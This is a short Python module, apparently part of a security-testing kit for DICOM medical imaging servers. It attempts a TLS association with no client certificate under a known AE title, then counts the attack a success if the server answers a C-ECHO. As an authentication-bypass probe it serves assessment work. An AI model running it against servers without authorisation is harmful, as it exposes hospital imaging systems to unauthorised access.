"""TLS without any client certificate. Under TLS 1.3 such a client believes it got in: the C-ECHO decides."""

from __future__ import annotations

from .dicom import IMPLICIT_LE, VERIFICATION, open_association
from .kit import Brief, Result, run


def attack(brief: Brief) -> Result:
    """Succeeds when the association is accepted and C-ECHO answered."""
    association = open_association(brief, brief["known_ae"], [(VERIFICATION, IMPLICIT_LE)], None, tls=True)
    status = association.echo()
    association.release()
    return Result(status == 0, f"C-ECHO status {status:04X} without a certificate")


if __name__ == "__main__":
    run(attack)
